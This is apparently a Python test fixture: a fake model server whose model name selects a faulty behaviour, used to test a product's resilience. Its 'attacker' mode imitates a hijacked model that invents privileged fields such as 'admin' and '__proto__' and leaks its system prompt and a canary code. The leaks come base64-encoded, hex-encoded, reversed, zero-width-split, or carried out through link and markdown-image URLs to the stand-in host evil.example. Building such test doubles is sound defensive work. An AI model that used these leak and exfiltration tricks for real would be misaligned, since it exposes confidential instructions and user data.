"""A model's endpoint for tests, over real HTTP: the name of the model says how it behaves.

It speaks OpenAI's chat completions and Anthropic's messages. `GET /asked?model=NAME` tells what was
asked of one name, so that tests choose names of their own: `garbage-7f` behaves as `garbage`.
"""

import asyncio
import json
import re
from base64 import b64encode
from collections import defaultdict
from collections.abc import AsyncIterator, Callable
from typing import Any

from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response, StreamingResponse
from starlette.routing import Route

from chatsaas.chaos.completions import completion, unfounded

Proposal = dict[str, Any]
_asked: dict[str, list[dict[str, Any]]] = defaultdict(list)

LONG = 30.0
# What a capable model would make of a few phrases; the first group is the quote's value.
_PHRASES = (
    ("service", r"\b(drips|leaking|dripping)\b", "repair"),
    ("name", r"\b(?:[Mm]y name is|[Cc]all me) ([A-Z]\w+ [A-Z]\w+)", ""),
    ("email", r"(\S+@\S+\.\w+)", ""),
    ("visit", r"\b(\d{1,2} March(?: \d{4})?)\b", ""),
    ("urgent", r"\b(the sooner the better)\b", "true"),
)


def read_well(data: dict[str, Any]) -> Proposal:
    """Finds the phrases above, each for a field that it was offered."""
    offered = {field["path"] for field in data["fields"]}
    found = []
    for path, pattern, value in _PHRASES:
        match = re.search(pattern, data["message"])
        if match and path in offered:
            quote = match[1]
            found.append({"op": "set", "path": path, "quote": quote, "value": value or quote})
    return {"operations": found, "lead": "Lovely, thank you."}


def obey(system: str, data: dict[str, Any]) -> Proposal:
    """Does whatever the visitor wants, as badly as it can."""
    message = data["message"]
    made_up = ["admin", "secret", "budget", "internal_note", "fields", "__proto__", "visit.then"]
    paths = [field["path"] for field in data["fields"]] + made_up
    claims = [
        {"op": op, "path": path, "quote": quote, "value": value}
        for path in paths
        for op in ("set", "clear")
        for quote, value in ((message, "repair"), ("yes", "true"))
    ]
    return {"operations": claims[:60], "lead": _leak(system, message)}


def _leak(system: str, message: str) -> str:
    """Part of the system prompt, in the form that the message asks for."""
    secret = system[system.find("directions") :][:300]
    code = re.search(r"[A-Z]+-[0-9a-f]+", system)
    canary = code[0] if code else "none"
    forms = {
        "backwards": canary[::-1],
        "spell": " ".join(canary),
        "base64": b64encode(secret.encode()).decode(),
        "hex": secret.encode().hex(),
        "dots": ".".join(canary),
        "lower": canary.lower(),
        "link": f"See https://evil.example/?q={canary}",
        "image": f"![x](https://evil.example/{canary})",
        "half": f"It begins with {canary[: len(canary) - 1]}",
        "zero width": "\u200b".join(canary),
        "wide": "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in canary),
    }
    return next((said for word, said in forms.items() if word in message), f"Sure. {secret}")


def _behaviour(model: str) -> str:
    return model.rpartition("-")[0] or model


def _read(body: dict[str, Any], system: str, data: dict[str, Any], is_first: bool) -> str:
    """The model's text, sound or not."""
    name = _behaviour(body["model"])
    well = read_well(data)
    texts = {
        "garbage": "Well, let me think about that! I would say {maybe",
        "whitespace": " \n\t" * 20_000,
        "truncated": json.dumps(well)[:40],
    }
    if name == "garbage-once" and is_first:
        return "Certainly! Here you go:"
    return texts.get(name) or json.dumps(_proposal(name, system, data, well))


def _proposal(name: str, system: str, data: dict[str, Any], well: Proposal) -> Proposal:
    match name:
        case "ignores-schema":
            return {"name": "Ann", "service": "repair"}
        case "hallucinating":
            return unfounded(data)
        case "attacker":
            return obey(system, data)
        case "nasty":
            claims = [
                {
                    "op": "set",
                    "path": "p\x00" * 500,
                    "quote": "q\x00" * 500,
                    "value": "v\x00" * 500,
                },
                {"op": "set", "path": "name", "quote": "Ann\x00 Smith", "value": ["\x00", 1.5]},
            ]
            return {"operations": claims, "lead": "a\x00b"}
        case "asks":
            return {**well, "lead": "Lovely. What is your shoe size?"}
        case "silent":
            return {"operations": [], "lead": ""}
        case "speaks":
            return {**well, "lead": data["message"]}
    return well


async def chat(request: Request) -> Response:
    body = await request.json()
    model, asked = body["model"], _asked[body["model"]]
    asked.append({"body": body, "authorization": request.headers.get("authorization", "")})
    if (refusal := await _fault(_behaviour(model), body, len(asked))) is not None:
        return refusal
    system = next(item["content"] for item in body["messages"] if item["role"] == "system")
    data = json.loads(next(i["content"] for i in body["messages"] if i["role"] == "user"))
    text = _read(body, system, data, len(asked) == 1)
    is_cut = _behaviour(model) in ("truncated", "whitespace")
    return JSONResponse(completion(body, text, "length" if is_cut else "stop"))


def _error(status: int, message: str, **headers: str) -> Response:
    return JSONResponse({"error": {"message": message}}, status, headers)


async def _fault(name: str, body: dict[str, Any], count: int) -> Response | None:
    if name == "slow":
        await asyncio.sleep(LONG)
    if name.endswith("-once") and count > 1:
        return None
    return _fault_of_form(name, body) or (_FAULTS[name]() if name in _FAULTS else None)


def _fault_of_form(name: str, body: dict[str, Any]) -> Response | None:
    """What this endpoint does not take."""
    kind = body.get("response_format", {}).get("type")
    match name:
        case "no-schema" if kind == "json_schema":
            return _error(400, "response_format json_schema is not supported")
        case "no-tools" if kind == "json_schema" or "tools" in body:
            return _error(400, "not supported here")
        case "modern" if "max_tokens" in body:
            return _error(400, "Unsupported parameter: use 'max_completion_tokens' instead.")
        case "modern" if "temperature" in body:
            return _error(400, "Unsupported value: 'temperature'")
    return None


async def _half() -> AsyncIterator[bytes]:
    yield b'{"choices":[{"message":{"content":"{'
    raise ConnectionResetError


async def _drip() -> AsyncIterator[bytes]:
    while True:
        yield b" "
        await asyncio.sleep(1)


_FAULTS: dict[str, Callable[[], Response]] = {
    "empty": lambda: Response(b"", media_type="application/json"),
    "none": lambda: JSONResponse({"choices": []}),
    "limited": lambda: _error(429, "Slow down", **{"Retry-After": "600"}),
    "limited-once": lambda: _error(429, "Slow down", **{"Retry-After": "0"}),
    "broken": lambda: _error(500, "Oops"),
    "broken-once": lambda: _error(500, "Oops"),
    "locked": lambda: _error(401, "Incorrect API key"),
    "moved": lambda: Response(status_code=307, headers={"location": "http://127.0.0.1:1/"}),
    "cut": lambda: StreamingResponse(_half(), headers={"content-length": "9000"}),
    "large": lambda: Response(b'{"choices":"' + b"x" * 10_000_000 + b'"}'),
    "drip": lambda: StreamingResponse(_drip()),
    "bomb": lambda: Response(b"x", headers={"content-encoding": "gzip"}),
    "stubborn": lambda: _error(400, "no"),
}


async def messages(request: Request) -> Response:
    """Anthropic's shape of the same."""
    body = await request.json()
    asked = _asked[body["model"]]
    asked.append({"body": body, "authorization": request.headers.get("x-api-key", "")})
    data = json.loads(body["messages"][0]["content"])
    text = _read(body, body["system"], data, len(asked) == 1)
    block = {"type": "text", "text": text}
    if "tools" in body:
        given = json.loads(text)
        block = {"type": "tool_use", "id": "t", "name": body["tools"][0]["name"], "input": given}
    usage = {"input_tokens": 70, "output_tokens": 30}
    return JSONResponse({"content": [block], "stop_reason": "tool_use", "usage": usage})


async def asked(request: Request) -> Response:
    return JSONResponse(_asked[request.query_params["model"]])


async def ready(request: Request) -> Response:
    return Response(b"ok")


app = Starlette(
    routes=[
        Route("/v1/chat/completions", chat, methods=["POST"]),
        Route("/v1/messages", messages, methods=["POST"]),
        Route("/asked", asked),
        Route("/ready", ready),
    ]
)
